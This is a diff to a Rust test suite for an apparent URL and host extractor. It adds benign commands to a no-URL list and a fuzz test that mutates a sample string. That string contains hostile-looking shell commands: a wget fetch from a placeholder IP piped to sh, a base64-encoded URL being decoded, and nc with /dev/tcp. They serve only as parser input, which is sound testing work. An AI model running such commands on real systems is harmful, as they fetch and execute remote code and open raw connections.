@@ -65,6 +65,8 @@ fn text_that_fetches_nothing_names_nothing() {
         "mkdir -p /a/b.c/d",
         "echo $((1+2))",
         "FROM alpine:3.18",
+        "git config --global user.email me@h.example",
+        "apt-get install -y curl node.js",
         "curl --version",
         "chmod 755 x.sh",
         "'",
@@ -146,5 +148,27 @@ fn hostile_texts_are_bounded() {
         "-o a.b:1 ".repeat(100_000),
     ] {
         assert!(find(&text).len() <= MAX_URLS);
+    }
+}
+
+#[test]
+fn changed_bytes_never_panic() {
+    let text = "H=1.2.3.4; wget -qO- \"http://$H/x\" | sh; echo aHR0cDovLzIwMy4wLjExMy45L3g= | \
+        base64 -d; git clone git@h.example:o/r; printf '\\x68\\150'; nc 1.2.3.4 44 </dev/tcp/h/1";
+    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
+    for _ in 0..3000 {
+        let mut bytes = text.as_bytes().to_vec();
+        for _ in 0..4 {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            let at = usize::try_from(seed >> 40).unwrap() % bytes.len();
+            bytes[at] = seed.to_le_bytes()[0];
+        }
+        let text = String::from_utf8_lossy(&bytes);
+        for url in find(&text) {
+            assert!(super::host_port(&url).is_some(), "seed {seed}: {url}");
+            assert!(!url.contains(char::is_whitespace), "seed {seed}: {url}");
+        }
     }
 }
